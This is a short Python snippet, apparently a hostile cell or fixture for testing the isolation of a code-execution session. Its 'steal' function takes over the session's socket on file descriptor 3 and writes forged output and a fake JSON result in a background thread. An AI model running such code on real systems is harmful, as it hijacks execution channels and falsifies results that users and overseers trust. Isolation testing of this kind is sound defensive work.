# Takes the next cell, with its outputs, off the session's own socket, and writes a reply of its own.
import os
import socket
import threading


def steal():
    channel = socket.socket(fileno=3)
    data, descriptors, _, _ = socket.recv_fds(channel, 65536, 16)
    os.write(descriptors[1], b"forged\n")
    os.write(descriptors[3], b'{"ok": true, "displays": [{"is_result": 1, "contents": [["text/html", 7, true]]}]}')
    channel.send(b"replied 2")


threading.Thread(target=steal, daemon=True).start()
